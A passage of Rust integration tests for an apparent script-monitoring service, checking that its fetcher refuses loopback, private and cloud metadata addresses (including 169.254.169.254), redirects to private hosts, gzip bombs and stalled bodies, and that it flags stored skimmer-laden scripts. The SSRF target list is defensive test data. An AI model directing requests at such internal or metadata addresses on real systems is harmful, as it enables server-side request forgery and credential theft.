    assert!(
        t.api("/api/v1/alerts?kind=script_hash_mismatch").await["alerts"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn private_loopback_link_local_and_metadata_targets_are_refused_and_recorded() {
    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
    let port = base.rsplit(':').next().unwrap().to_string();
    let t = start("", "[fetcher]\ninterval = \"1h\"").await;
    let targets = [
        (format!("http://localhost:{port}/lib.js"), "loopback"),
        (format!("http://127.0.0.1:{port}/lib.js"), "loopback"),
        (format!("http://[::1]:{port}/lib.js"), "loopback"),
        ("http://10.11.12.13/lib.js".to_string(), "private"),
        (
            "http://169.254.169.254/latest/meta-data/x.js".to_string(),
            "metadata",
        ),
        ("http://[fd00:ec2::254]/x.js".to_string(), "unique local"),
    ];
    for (url, _) in &targets {
        report(&t, url).await;
    }
    for (url, why) in &targets {
        let f = fetches(&t, url).await;
        assert_eq!(f[0]["outcome"], "refused", "{url}: {f:?}");
        assert!(
            f[0]["error"].as_str().unwrap().contains(why),
            "{url}: {f:?}"
        );
    }
    assert_eq!(
        up.hits.load(Ordering::SeqCst),
        0,
        "no request may reach a refused address"
    );
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_redirect_to_a_private_address_is_refused_at_the_hop() {
    // 127.0.0.2 stands in for a public CDN (explicitly allowed); it redirects to 127.0.0.1.
    let (target, target_base) = serve_upstream("127.0.0.1", LIB).await;
    let (cdn, cdn_base) = serve_upstream("127.0.0.2", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_addresses = [\"127.0.0.2/32\"]\ninterval = \"1h\"",
    )
    .await;
    let direct = format!("{cdn_base}/lib.js");
    let target_port = target_base.rsplit(':').next().unwrap();
    let bounced = format!("{cdn_base}/redirect/{target_port}/lib.js");
    report(&t, &direct).await;
    report(&t, &bounced).await;
    let f = fetches(&t, &direct).await;
    let desktop = f.iter().find(|f| !is_probe(f)).unwrap();
    assert_eq!(desktop["outcome"], "new_version", "{f:?}");
    let f = fetches(&t, &bounced).await;
    assert_eq!(f[0]["outcome"], "refused", "{f:?}");
    assert!(
        f[0]["error"].as_str().unwrap().contains("redirect"),
        "{f:?}"
    );
    assert!(cdn.hits.load(Ordering::SeqCst) >= 2);
    assert_eq!(target.hits.load(Ordering::SeqCst), 0);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn bodies_over_the_limit_are_errors() {
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\nmax_script_bytes = 1000\ninterval = \"1h\"",
    )
    .await;
    // Plain, and a gzip bomb: the limit holds on the decoded body.
    for path in ["big.js", "bomb.js"] {
        let url = format!("{base}/{path}");
        report(&t, &url).await;
        let f = fetches(&t, &url).await;
        assert_eq!(f[0]["outcome"], "error", "{path}");
        assert!(
            f[0]["error"].as_str().unwrap().contains("max_script_bytes"),
            "{path}: {f:?}"
        );
    }
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_server_that_stalls_mid_body_is_an_error_at_the_timeout() {
    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
    let t = start(
        "",
        "[fetcher]\nallow_private_addresses = true\ntimeout = \"500ms\"\ninterval = \"1h\"",
    )
    .await;
    let url = format!("{base}/stall.js");
    let started = std::time::Instant::now();
    report(&t, &url).await;
    let f = fetches(&t, &url).await;
    assert_eq!(f[0]["outcome"], "error", "{f:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    // Nothing half-read was stored as a version.
    let v = t
        .api(&format!(
            "/api/v1/sites/shop/scripts/versions?url={}",
            url_encode(&url)
        ))
        .await;
    assert!(v["versions"].as_array().unwrap().is_empty(), "{v}");
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn versions_scored_by_another_model_are_rescored_at_start() {
    let dir = tempfile::tempdir().unwrap();
    let url = "https://cdn.widgets.example/w.js";
    {
        let store = rampart_store::open(&database_in(dir.path())).await.unwrap();
        store.ensure_site("shop", 0).await.unwrap();
        store
            .insert_version(
                &rampart_store::NewVersion {
                    site: "shop".into(),
                    url: url.into(),
                    sha256: "00".repeat(32),
                    structural_hash: "x".into(),
                    fetched_at: 1,
                    analysis: serde_json::json!({"classification": {"model": "an-older-model", "score": 99}}),
                    body: format!("{LIB}\n{SKIMMER}").into_bytes(),
                },
                10,
            )
            .await
            .unwrap();
    }
    // No fetch happens (the fetcher is off); the start-up pass rescores what is stored.
    let t = start_in(dir, "", "[fetcher]\nenabled = false").await;
    let alerts = t
        .eventually("/api/v1/alerts?kind=malicious_script", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    assert_eq!(alerts["alerts"][0]["subject"], url);
    let v = t
        .api(&format!(
            "/api/v1/sites/shop/scripts/versions?url={}",
            url_encode(url)
        ))
        .await;
    let c = &v["versions"][0]["classification"];
    assert_eq!(c["model"], rampart_js::Model::embedded().version.as_str());
    assert!(c["score"].as_u64().unwrap() < 50, "{c}");
    t.server.shutdown().await.unwrap();
}
